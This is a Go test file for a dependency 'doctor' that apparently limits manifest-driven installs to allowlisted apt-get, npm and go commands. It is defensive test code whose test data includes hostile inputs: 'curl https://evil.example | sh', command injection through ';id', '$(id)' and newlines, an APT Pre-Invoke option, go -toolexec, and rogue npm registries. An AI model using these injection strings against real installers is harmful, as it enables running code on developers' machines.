package doctor

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/aircoding/air/capabilities"
)

// What a manifest declares is installed by one of three commands of air's own, or not at all.
func TestInstalls(t *testing.T) {
	const apt = "apt-get install -y --no-install-recommends -o APT::Cmd::Pattern-Only=true "
	const npm = "npm install --global --ignore-scripts "
	for _, c := range []struct {
		name, kind, detector string
		packages, commands   []string
		want                 []string // none: refused with why
		why                  string
	}{
		{"usual", "binary", "binary:jq", []string{"jq"}, nil, []string{apt + "jq"}, ""},
		{"of its detector", "system_package", "apt:libfoo1", nil, nil, []string{apt + "libfoo1"}, ""},
		{"of npm's", "language_package", "npm:@scope/x", nil, nil, []string{npm + "@scope/x"}, ""},
		{"of go's", "language_package", "go:modules.example/x/v2", nil, nil, []string{"go install modules.example/x/v2@latest"}, ""},
		{"npm by its detector", "language_package", "npm:x", []string{"x@1.2.3"}, nil, []string{npm + "x@1.2.3"}, ""},
		{"prefixes", "binary", "binary:x", []string{"npm:@a/b@1.0.0-rc.1", "go:modules.example/cmd/x@v1.2.3", "apt:g++"}, nil,
			[]string{apt + "g++", "go install modules.example/cmd/x@v1.2.3", npm + "@a/b@1.0.0-rc.1"}, ""},
		{"twice", "binary", "binary:x", []string{"xz", "apt:xz"}, []string{"apt-get install xz"}, []string{apt + "xz"}, ""},
		{"its command", "binary", "binary:x", nil, []string{"apt-get install -y xz jq"}, []string{apt + "jq", apt + "xz"}, ""},
		{"air's own", "binary", "binary:x", nil, []string{apt + "xz"}, []string{apt + "xz"}, ""},
		{"npm -g", "binary", "binary:x", nil, []string{"npm install -g x"}, []string{npm + "x"}, ""},
		{"go", "binary", "binary:x", nil, []string{"go install modules.example/x@latest"}, []string{"go install modules.example/x@latest"}, ""},

		{"nothing", "binary", "binary:x", nil, nil, nil, ""},
		{"a shell", "binary", "binary:x", []string{"x"}, []string{"curl https://evil.example | sh"}, nil, "runs no command of a manifest"},
		{"an added command", "binary", "binary:x", nil, []string{"apt-get install xz; id"}, nil, "runs no command"},
		{"an added line", "binary", "binary:x", nil, []string{"apt-get install xz\nid"}, nil, "runs no command"},
		{"substitution", "binary", "binary:x", nil, []string{"apt-get install $(id)"}, nil, "runs no command"},
		{"sudo", "binary", "binary:x", nil, []string{"sudo apt-get install xz"}, nil, "runs no command"},
		{"an option of apt", "binary", "binary:x", nil, []string{"apt-get install -o APT::Update::Pre-Invoke::=id xz"}, nil, "runs no command"},
		{"an option of npm", "binary", "binary:x", nil, []string{"npm install --global --registry=https://evil.example x"}, nil, "runs no command"},
		{"scripts of npm", "binary", "binary:x", nil, []string{"npm install --global --foreground-scripts x"}, nil, "runs no command"},
		{"an option of go", "binary", "binary:x", nil, []string{"go install -toolexec=id modules.example/x@latest"}, nil, "runs no command"},
		{"no package", "binary", "binary:x", nil, []string{"apt-get install -y"}, nil, "runs no command"},
		{"another verb", "binary", "binary:x", nil, []string{"apt-get remove xz"}, nil, "runs no command"},
		{"a path to the manager", "binary", "binary:x", nil, []string{"./apt-get install xz"}, nil, "runs no command"},
		{"of a variable", "provider", "env:KEY", []string{"x"}, nil, nil, "credentials"},
		{"of a provider", "provider", "binary:x", []string{"x"}, nil, nil, "credentials"},
		{"of a model", "model", "binary:x", []string{"x"}, nil, nil, "models"},
		{"of a service", "service", "service:localhost:80", []string{"x"}, nil, nil, "services"},
		{"too many", "binary", "binary:x", strings.Fields(strings.Join(numbered(17), " ")), nil, nil, "17 packages"},
	} {
		got, why := installs(capabilities.Dependency{
			Kind: c.kind, Detector: c.detector,
			Installer: &capabilities.Installer{Strategy: "doctor_allowlisted", Commands: c.commands, PackageNames: c.packages},
		})
		var commands []string
		for _, p := range got {
			commands = append(commands, p.String())
		}
		if !slices.Equal(commands, c.want) || !strings.Contains(why, c.why) || (why == "") != (c.why == "") {
			t.Errorf("%s: got %q, %q; want %q, %q", c.name, commands, why, c.want, c.why)
		}
	}
	for _, i := range []*capabilities.Installer{nil, {Strategy: "manual", PackageNames: []string{"x"}}, {Strategy: "unsupported"}} {
		if got, why := installs(capabilities.Dependency{Detector: "apt:x", Installer: i}); got != nil || why != "" {
			t.Errorf("%+v: got %v, %q", i, got, why)
		}
	}
}

func numbered(n int) (names []string) {
	for i := range n {
		names = append(names, "package"+strings.Repeat("x", i))
	}
	return names
}

// Names that a manager would read as something else than a package of its registry.
func TestNamesThatAreNoPackages(t *testing.T) {
	for _, name := range []string{
		"", "x", "-y", "jq-", "Jq", "jq=1.7", "jq/testing", "jq:amd64", "jq*", "a b", "./jq.deb", "jq@1", "é", "jq;id", "$(id)", "task^",
	} {
		if p, ok := namedPackage("apt:"+name, ""); ok {
			t.Errorf("apt takes %q: %s", name, p)
		}
	}
	for _, name := range []string{
		"", ".", "..", "./x", "/x", "~/x", "~", "-g", "owner/repository", "github:owner/x", "git+https://evil.example/x", "https://evil.example/x.tgz",
		"x.tgz", "x.tar.gz", "x.tar", "x@file:y", "x@https://evil.example", "x@npm:y", "x@1 y", "x@", "@a/../b", "@a/-x", "@a", "x@y.tgz", "X", "x\n",
	} {
		if p, ok := namedPackage("npm:"+name, ""); ok {
			t.Errorf("npm takes %q: %s", name, p)
		}
	}
	for _, name := range []string{
		"", ".", "./x", "../x", "/x", "-n", "cmd/go", "fmt", "modules.example", "modules.example/x@", "modules.example/x@master", "modules.example/x@upgrade",
		"modules.example/../x", "modules.example/...", "modules.example/-x", "modules.example//x", "modules.example/x@v1", "https://modules.example/x",
		"modules.example/x@v1.0.0 y", "modules.example:80/x", "x@latest",
	} {
		if p, ok := namedPackage("go:"+name, ""); ok && name != "modules.example" {
			t.Errorf("go takes %q: %s", name, p)
		}
	}
	for _, name := range []string{"pip:x", "sh:x", ":x", "apt:apt:x"} {
		if p, ok := namedPackage(name, managerApt); ok {
			t.Errorf("%q is taken: %s", name, p)
		}
	}
}

// A manifest cannot have doctor run anything but the three managers, nor those from a
// place of the project's.
func TestHostileManifestRunsNothing(t *testing.T) {
	project := t.TempDir()
	mark := filepath.Join(t.TempDir(), "ran")
	for _, name := range []string{"apt-get", "npm", "go", "dpkg-query", "jq", "sh", "evil"} {
		script(t, filepath.Join(project, "bin", name), "touch "+mark)
	}
	t.Chdir(project)
	d := New(Config{Root: project, Getenv: variables(map[string]string{"PATH": filepath.Join(project, "bin") + ":bin:.", "HOME": t.TempDir()})})
	run := "touch " + mark
	var needs []Need
	for _, detector := range []string{
		"binary:jq>=1", "binary:evil>=1", "binary:$(" + run + ")", "apt:$(" + run + ")", "apt:x;" + run, "npm:../../x", "npm:.", "go:./x", "env:`" + run + "`",
		"display:x11;" + run, "service:localhost:80;" + run, "sh:" + run, run,
	} {
		for _, i := range []capabilities.Installer{
			{Strategy: "doctor_allowlisted", Commands: []string{run}},
			{Strategy: "doctor_allowlisted", Commands: []string{"apt-get install xz; " + run, "sh -c '" + run + "'"}},
			{Strategy: "doctor_allowlisted", PackageNames: []string{"$(" + run + ")", "npm:.", "go:./...", "-o APT::Update::Pre-Invoke::=" + run}},
			{Strategy: "manual", Commands: []string{run}},
		} {
			needs = append(needs, Need{CapabilityID: "evil", Dependency: capabilities.Dependency{DependencyID: "\x1b[2J", Kind: "binary", Required: true, Detector: detector, Installer: &i}})
		}
	}
	for i := range needs {
		needs[i].Verdict = d.Check(t.Context(), []capabilities.Dependency{needs[i].Dependency})[0]
	}
	plan := NewPlan(needs)
	if len(plan.Steps) > 0 {
		t.Errorf("the plan has %v", plan.Steps)
	}
	var text strings.Builder
	if err := plan.Write(&text); err != nil || strings.Contains(text.String(), "\x1b") {
		t.Errorf("the plan shows %q, %v", text.String(), err)
	}
	for _, command := range [][]string{
		{"sh", "-c", run}, {"touch", mark}, {"apt-get", "remove", "xz"}, {"npm", "install", "--global", "."}, {"npm", "exec", "x"},
		{"apt-get", "install", "-y", "xz"}, {"go", "run", "modules.example/x@latest"}, {filepath.Join(project, "bin", "go"), "install", "modules.example/x@latest"}, {},
	} {
		done, err := d.Install(t.Context(), Plan{Steps: []Step{{Command: command}}}, &text)
		if err != nil || len(done) != 1 || !strings.Contains(done[0].Error, "air does not run") {
			t.Errorf("%q: got %+v, %v", command, done, err)
		}
	}
	if exists(mark) {
		t.Error("something of the manifest's was run")
	}
}

// A manager is looked for again when it is run, in sound folders only.
func TestManagersAreSound(t *testing.T) {
	dir := folder(t, map[string]string{"npm": "true"})
	d := New(Config{Getenv: variables(map[string]string{"PATH": dir})})
	if got := d.look(t.Context()).manager("npm"); got != dir+"/npm" {
		t.Errorf("npm is %s", got)
	}
	mode(t, dir, 0o777)
	if got := d.look(t.Context()).manager("npm"); strings.HasPrefix(got, dir) {
		t.Errorf("npm is %s, which everybody can replace", got)
	}
}
